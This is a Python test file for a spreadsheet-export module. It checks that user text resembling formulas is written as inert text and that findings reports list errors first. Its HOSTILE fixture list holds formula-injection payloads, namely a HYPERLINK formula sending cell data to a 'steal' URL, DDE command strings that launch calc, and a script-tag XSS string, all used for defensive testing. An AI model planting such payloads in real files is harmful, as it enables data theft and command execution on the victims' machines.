"""Spreadsheets the digest hands out are inert: text from users is never a formula or a link."""

from __future__ import annotations

import zipfile
from io import BytesIO

from openpyxl import load_workbook

from digest.export.xlsx import Sheet, workbook

HOSTILE = [
    '=HYPERLINK("http://example.org/steal?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
]


def test_text_that_looks_like_a_formula_stays_text():
    content = workbook(
        [
            Sheet(
                name="Report",
                title="=1+1 title",
                notes=["=2+2 note"],
                headings=["=heading", "Number"],
                rows=[[text, 5] for text in HOSTILE],
            )
        ]
    )
    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(archive.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml
    assert "<hyperlink" not in xml and "<hyperlinks" not in xml
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    values = [sheet.cell(row=r, column=1).value for r in range(5, 5 + len(HOSTILE))]
    assert values == [text.replace("\r", "\n") for text in HOSTILE]  # XML reads CR as LF
    assert [sheet.cell(row=r, column=2).value for r in range(5, 5 + len(HOSTILE))] == [5] * 7


def test_findings_come_errors_first_then_in_sheet_and_cell_order():
    from digest.domain.findings import Finding
    from digest.export.findings import findings_report

    found = [
        Finding("info", "value.text", "=1+1 typed as text", "Return", "E10", "CSC.S47"),
        Finding("error", "value.negative", "negative", "Return", "E10", "CSC.S47"),
        Finding("error", "value.text", "not a number", "Return", "E9", "CSC.REFERRALS"),
        Finding("query", "change.large", "explain", "Return", "E12", "CSC.CIN_OPEN"),
    ]
    sheet = load_workbook(BytesIO(findings_report("csc.xlsx", found))).active
    assert sheet is not None
    rows = [r for r in sheet.iter_rows(min_row=5, values_only=True)]
    assert [(r[0], r[2]) for r in rows] == [
        ("Error (must be corrected)", "E9"),
        ("Error (must be corrected)", "E10"),
        ("Query (explain)", "E12"),
        ("Note", "E10"),
    ]
    assert rows[-1][4] == "=1+1 typed as text"  # text, not a formula
